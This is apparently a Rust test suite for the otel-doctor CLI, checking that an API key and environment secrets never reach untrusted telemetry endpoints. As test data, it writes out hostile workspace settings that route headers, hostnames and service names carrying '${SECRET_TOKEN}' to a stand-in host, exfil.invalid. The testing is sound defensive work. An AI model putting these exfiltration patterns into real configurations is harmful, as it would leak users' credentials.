//! Where the key may go, tried as an attacker would: hostile workspaces made here point the
//! endpoint away from Honeycomb (a committed `.otel-doctor.toml`, a compose endpoint, plain
//! `http://` to Honeycomb's own host, gRPC), and a logging proxy on loopback stands for the
//! outside world (`HTTP_PROXY`, `HTTPS_PROXY`, `ALL_PROXY`, `NO_PROXY` empty): whatever would
//! leave the machine passes through it and is recorded, then relayed to a fake on loopback.
//! The key reaches none of those endpoints unless the user trusts them. Host names are under
//! the reserved `.invalid` domain, so that a client that ignored the proxy could reach nothing.

mod support;

use std::path::Path;
use std::process::{Command, Output};

use support::proxy::LoggingProxy;
use support::report::{json as report, step};
use support::{Auth, FakeGrpc, FakeHoneycomb, Mode};

/// An ingest key of the right shape that is obviously fake.
const KEY: &str = "hcaik_0000000000000000000000000000000000000000000000000000000000";
/// A secret of this machine's environment that a workspace interpolates.
const TOKEN: &str = "ghp_000000000000000000000000000000000000";

/// A workspace whose one service, `checkout`, has these `environment` lines, with other files.
fn workspace(environment: &[&str], files: &[(&str, &str)]) -> tempfile::TempDir {
    let lines: Vec<&str> = std::iter::once("OTEL_SERVICE_NAME: checkout")
        .chain(environment.iter().copied())
        .collect();
    support::one_service::workspace(&lines, files)
}

fn sending_to(endpoint: &str, protocol: &str) -> tempfile::TempDir {
    workspace(
        &[
            &format!("OTEL_EXPORTER_OTLP_ENDPOINT: {endpoint}"),
            &format!("OTEL_EXPORTER_OTLP_PROTOCOL: {protocol}"),
            "OTEL_EXPORTER_OTLP_HEADERS: x-honeycomb-team=${HONEYCOMB_API_KEY}",
        ],
        &[],
    )
}

/// `check` of the workspace, run in its folder, with the key in the environment as in CI, and
/// every client sent through `proxy` when there is one.
fn doctor(dir: &Path, proxy: Option<&LoggingProxy>, args: &[&str], env: &[(&str, &str)]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_otel-doctor"))
        .args(["check", "--format", "json", "--timeout", "5", "."])
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("HONEYCOMB_API_KEY", KEY)
        .env("SECRET_TOKEN", TOKEN)
        .envs(proxy.map(LoggingProxy::environment).unwrap_or_default())
        .envs(env.iter().copied())
        .output()
        .unwrap()
}

fn check(dir: &Path, proxy: &LoggingProxy, args: &[&str], env: &[(&str, &str)]) -> Output {
    doctor(dir, Some(proxy), args, env)
}

fn findings_of<'a>(report: &'a serde_json::Value, rule: &str) -> Vec<&'a serde_json::Value> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .collect()
}

/// The one `canary/untrusted-endpoint` finding, which names the endpoint and how to trust it.
fn untrusted<'a>(report: &'a serde_json::Value, endpoint: &str) -> &'a serde_json::Value {
    let found = findings_of(report, "canary/untrusted-endpoint");
    assert_eq!(found.len(), 1, "{report}");
    let message = found[0]["message"].as_str().unwrap();
    assert!(
        message.starts_with(endpoint) && message.contains(" is not trusted with the key ("),
        "{message}"
    );
    found[0]
}

#[test]
fn an_http_endpoint_of_the_workspace_gets_the_canary_without_the_key() {
    let world = FakeHoneycomb::start(Mode::Accept, Auth::accepted(true, true));
    let proxy = LoggingProxy::start(Some(world.addr), None);
    let dir = sending_to("http://exfil.invalid:4318", "http/protobuf");
    let report = report(&check(dir.path(), &proxy, &[], &[]));
    let seen = proxy.seen();
    assert_eq!(
        seen.request_lines,
        ["POST http://exfil.invalid:4318/v1/traces HTTP/1.1"],
        "the canary went through the proxy, and nothing else did"
    );
    assert!(!seen.all().contains(KEY), "{seen:?}");
    let arrived = world.received();
    assert_eq!(
        arrived.spans.len(),
        1,
        "the canary arrived, without the key"
    );
    assert_eq!(arrived.header("x-honeycomb-team"), None);
    let finding = untrusted(&report, "exfil.invalid:4318");
    assert!(
        finding["message"]
            .as_str()
            .unwrap()
            .ends_with(": the canary went to http://exfil.invalid:4318/v1/traces without x-honeycomb-team (the Honeycomb key)."),
        "{finding}"
    );
    assert_eq!(
        finding["hint"],
        "if exfil.invalid:4318 is yours, trust it with the key: --trust-endpoint http://exfil.invalid:4318 (or OTEL_DOCTOR_TRUST_ENDPOINTS=http://exfil.invalid:4318)"
    );
    assert_eq!(
        (finding["file"].as_str(), finding["line"].as_u64()),
        (Some("docker-compose.yml"), Some(8))
    );
    assert_eq!(step(&report, "canary")["status"], "warn", "{report}");
}

#[test]
fn a_committed_config_endpoint_gets_no_key_and_cannot_widen_where_it_goes() {
    let world = FakeHoneycomb::start(Mode::Accept, Auth::accepted(true, true));
    let proxy = LoggingProxy::start(Some(world.addr), None);
    let config = "[online]\nendpoint = \"http://exfil.invalid:4318\"\nsend-key-to = [\"http://exfil.invalid:4318\", \"api.honeycomb.io\"]\n";
    let dir = workspace(
        &[
            "OTEL_EXPORTER_OTLP_ENDPOINT: https://api.honeycomb.io",
            "OTEL_EXPORTER_OTLP_HEADERS: x-honeycomb-team=${HONEYCOMB_API_KEY}",
        ],
        &[(".otel-doctor.toml", config)],
    );
    let report = report(&check(dir.path(), &proxy, &[], &[]));
    let seen = proxy.seen();
    assert!(
        seen.request_lines
            .contains(&"POST http://exfil.invalid:4318/v1/traces HTTP/1.1".to_string()),
        "{seen:?}"
    );
    assert!(!seen.all().contains(KEY), "{seen:?}");
    assert_eq!(world.received().header("x-honeycomb-team"), None);
    untrusted(&report, "exfil.invalid:4318");
    assert!(seen.connect_targets().is_empty(), "{seen:?}");
}

#[test]
fn plain_http_to_honeycombs_own_host_gets_no_canary() {
    let world = FakeHoneycomb::start(Mode::Accept, Auth::accepted(true, true));
    let proxy = LoggingProxy::start(Some(world.addr), None);
    let dir = sending_to("http://api.honeycomb.io", "http/protobuf");
    let report = report(&check(dir.path(), &proxy, &[], &[]));
    let seen = proxy.seen();
    assert!(!seen.all().contains(KEY), "{seen:?}");
    assert_eq!(seen.connect_targets(), ["api.honeycomb.io:443"], "{seen:?}");
    assert!(world.received().requests.is_empty());
    let canary = step(&report, "canary");
    assert_eq!(canary["status"], "skip", "{report}");
    let finding = untrusted(&report, "api.honeycomb.io:80");
    assert_eq!(
        finding["hint"],
        "send to Honeycomb over https:// (honeycomb/insecure-transport); to send the key in clear anyway: --trust-endpoint http://api.honeycomb.io:80"
    );
    assert_eq!(
        findings_of(&report, "honeycomb/insecure-transport").len(),
        1
    );
}

#[test]
fn a_grpc_canary_goes_through_the_proxy_without_the_key() {
    let world = FakeGrpc::start(None);
    let proxy = LoggingProxy::start(None, Some(world.addr));
    let dir = sending_to("http://exfil.invalid:4317", "grpc");
    let report = report(&check(dir.path(), &proxy, &[], &[]));
    let seen = proxy.seen();
    assert_eq!(seen.connect_targets(), ["exfil.invalid:4317"], "{seen:?}");
    assert!(!seen.all().contains(KEY), "{seen:?}");
    let arrived = world.received();
    assert_eq!(arrived.spans.len(), 1, "{report}");
    assert_eq!(arrived.header("x-honeycomb-team"), None);
    untrusted(&report, "exfil.invalid:4317");
}

#[test]
fn secrets_of_the_environment_never_go_to_an_untrusted_endpoint() {
    let world = FakeHoneycomb::start(Mode::Accept, Auth::accepted(true, true));
    let proxy = LoggingProxy::start(Some(world.addr), None);
    // A header named like a secret, one that only carries a secret, an endpoint and a service
    // name made of one.
    let headers = workspace(
        &[
            "OTEL_EXPORTER_OTLP_ENDPOINT: http://exfil.invalid:4318",
            "OTEL_EXPORTER_OTLP_HEADERS: authorization=Bearer ${SECRET_TOKEN},x-tenant=${SECRET_TOKEN},x-scope=team-a",
        ],
        &[],
    );
    let report_headers = report(&check(headers.path(), &proxy, &[], &[]));
    let arrived = world.received();
    assert_eq!(arrived.spans.len(), 1, "{report_headers}");
    assert_eq!(arrived.header("authorization"), None);
    assert_eq!(arrived.header("x-tenant"), None);
    assert_eq!(arrived.header("x-scope").as_deref(), Some("team-a"));
    let message = untrusted(&report_headers, "exfil.invalid:4318")["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        message.contains("authorization (a secret by its name), x-tenant (the value of $SECRET_TOKEN from this machine's environment)"),
        "{message}"
    );
    for (endpoint, name) in [
        ("http://${SECRET_TOKEN}.exfil.invalid:4318", "checkout"),
        ("http://exfil.invalid:4318", "${SECRET_TOKEN}"),
    ] {
        let dir = workspace(
            &[
                &format!("OTEL_EXPORTER_OTLP_ENDPOINT: {endpoint}"),
                &format!("OTEL_RESOURCE_ATTRIBUTES: service.namespace={name}"),
            ],
            &[],
        );
        let compose = dir.path().join("docker-compose.yml");
        let text = std::fs::read_to_string(&compose).unwrap();
        std::fs::write(
            &compose,
            text.replace(
                "OTEL_SERVICE_NAME: checkout",
                &format!("OTEL_SERVICE_NAME: {name}"),
            ),
        )
        .unwrap();
        let report = report(&check(dir.path(), &proxy, &[], &[]));
        assert_eq!(step(&report, "canary")["status"], "skip", "{report}");
        let message = untrusted(&report, "")["message"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(
            message.contains("the value of $SECRET_TOKEN from this machine's environment"),
            "{message}"
        );
    }
    let seen = proxy.seen();
    assert!(!seen.all().contains(TOKEN), "{seen:?}");
    assert_eq!(seen.request_lines.len(), 1, "{seen:?}");
}

#[test]
fn the_user_trusts_an_endpoint_on_the_command_line_or_in_the_environment() {
    let world = FakeHoneycomb::start(Mode::Accept, Auth::accepted(true, true));
    let proxy = LoggingProxy::start(Some(world.addr), None);
    let dir = sending_to("http://exfil.invalid:4318", "http/protobuf");
    let trusted = [
        (
            vec!["--trust-endpoint", "http://exfil.invalid:4318"],
            vec![],
        ),
        (
            vec![],
            vec![(
                "OTEL_DOCTOR_TRUST_ENDPOINTS",
                ",collector.invalid,,http://exfil.invalid",
            )],
        ),
        (vec!["--endpoint", "http://exfil.invalid:4318"], vec![]),
    ];
    for (args, env) in trusted {
        let report = report(&check(dir.path(), &proxy, &args, &env));
        assert!(
            findings_of(&report, "canary/untrusted-endpoint").is_empty(),
            "{args:?} {env:?}: {report}"
        );
        assert_eq!(
            world.received().header("x-honeycomb-team").as_deref(),
            Some(KEY),
            "{args:?} {env:?}"
        );
    }
    // Trusted over TLS only: plain http must be named.
    let tls_only = report(&check(
        dir.path(),
        &proxy,
        &["--trust-endpoint", "exfil.invalid:4318"],
        &[],
    ));
    untrusted(&tls_only, "exfil.invalid:4318");
    // To Honeycomb's own host in clear, only when named.
    let honeycomb = sending_to("http://api.honeycomb.io", "http/protobuf");
    let before = world.received().requests.len();
    let in_clear = report(&check(
        honeycomb.path(),
        &proxy,
        &["--trust-endpoint", "http://api.honeycomb.io:80"],
        &[],
    ));
    assert!(
        findings_of(&in_clear, "canary/untrusted-endpoint").is_empty(),
        "{in_clear}"
    );
    let arrived = world.received();
    assert_eq!(arrived.requests.len(), before + 1);
    assert_eq!(arrived.header("x-honeycomb-team").as_deref(), Some(KEY));
}

#[test]
fn the_configuration_narrows_where_the_key_goes_even_on_this_machine() {
    let local = FakeHoneycomb::start(
        Mode::Refuse {
            status: 401,
            content_type: "application/json",
            body: br#"{"message":"missing 'x-honeycomb-team' header"}"#.to_vec(),
        },
        Auth::accepted(true, true),
    );
    let dir = workspace(
        &[
            &format!("OTEL_EXPORTER_OTLP_ENDPOINT: {}", local.url()),
            "OTEL_EXPORTER_OTLP_HEADERS: x-honeycomb-team=${HONEYCOMB_API_KEY}",
        ],
        &[(".otel-doctor.toml", "[online]\nsend-key-to = []\n")],
    );
    let output = doctor(
        dir.path(),
        None,
        &[],
        &[("OTEL_DOCTOR_HONEYCOMB_API_URL", &local.url())],
    );
    let report = report(&output);
    let received = local.received();
    assert_eq!(
        received
            .requests
            .iter()
            .map(|r| r.1.as_str())
            .collect::<Vec<_>>(),
        ["/v1/traces"],
        "no key check: the configuration keeps the key from Honeycomb too: {report}"
    );
    assert_eq!(received.header("x-honeycomb-team"), None);
    let key = step(&report, "key");
    assert!(
        key["summary"]
            .as_str()
            .unwrap()
            .ends_with("skipped: the key may not go to https://api.honeycomb.io: send-key-to (.otel-doctor.toml:2:15) leaves it out"),
        "{key}"
    );
    let finding = untrusted(&report, "127.0.0.1");
    assert_eq!(
        finding["hint"],
        format!(
            "send-key-to (.otel-doctor.toml:2:15) leaves 127.0.0.1:{0} out: add \"http://127.0.0.1:{0}\" to it if the key may go there",
            local.addr.port()
        )
    );
    // The endpoint's 401 is what a span without the key gets: not the app's fault.
    assert!(
        findings_of(&report, "canary/rejected").is_empty(),
        "{report}"
    );
}

#[test]
fn config_shows_who_decided_where_the_key_goes() {
    let dir = workspace(
        &[],
        &[(
            ".otel-doctor.toml",
            "[online]\nsend-key-to = [\"api.honeycomb.io\"]\n",
        )],
    );
    let output = Command::new(env!("CARGO_BIN_EXE_otel-doctor"))
        .args([
            "config",
            "--format",
            "json",
            "--trust-endpoint",
            "http://collector.invalid:4318",
        ])
        .current_dir(dir.path())
        .env_clear()
        .env("OTEL_DOCTOR_TRUST_ENDPOINTS", "gateway.invalid")
        .output()
        .unwrap();
    let config: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    let online = &config["online"];
    assert_eq!(
        online["send-key-to"]["value"],
        serde_json::json!(["api.honeycomb.io"])
    );
    // The flag wins over the environment, as clap reads them; the file adds nothing.
    assert_eq!(
        online["trusted-endpoints"]["value"],
        serde_json::json!(["http://collector.invalid:4318"]),
        "{config}"
    );
}
